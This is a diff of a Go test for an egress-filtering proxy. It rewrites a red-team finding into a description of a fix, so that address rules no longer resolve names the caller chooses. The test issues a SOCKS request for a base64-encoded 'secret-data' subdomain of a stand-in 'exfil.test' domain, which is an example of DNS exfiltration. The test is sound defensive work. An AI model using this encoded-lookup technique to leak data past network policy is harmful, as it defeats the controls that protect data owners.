@@ -1059,15 +1059,12 @@ func pemCert(t *testing.T, b []byte) *x509.Certificate {
 	return c
 }
 
-// TestAddressRulesLookUpNoChosenName: KNOWN TO FAIL (red-team finding, fix
-// not made: it changes what an address rule allows). With an address or
-// CIDR rule for a port, the proxy resolves every name a call asks for on
-// that port, to see whether it lands in the range; so a call can have the
-// host's resolver ask an outside DNS server any name it makes up, which is
-// a way out for data ("no DNS of the call's own", README) under a policy
-// that lets nothing out to anyone else. The fix: an address rule allows IP
-// literals and pinned names (--resolve), and a name is looked up only when
-// a name rule matches it.
+// TestAddressRulesLookUpNoChosenName: an address or CIDR rule does not make
+// the proxy resolve the names a call asks for on its port (to see whether
+// they land in the range): the host's resolver would ask outside DNS servers
+// any name the call made up, a way out for data ("no DNS of the call's own")
+// under a policy that lets nothing out to anyone else. An address rule
+// allows IP literals and pinned names (--resolve); a name needs a name rule.
 func TestAddressRulesLookUpNoChosenName(t *testing.T) {
 	e := start(t, Policy{}, []string{"10.1.2.3:5432", "10.0.0.0/8", "allowed.test"})
 	_ = socksConnect(t, e.addr, 1, "c2VjcmV0LWRhdGE.exfil.test", 5432)
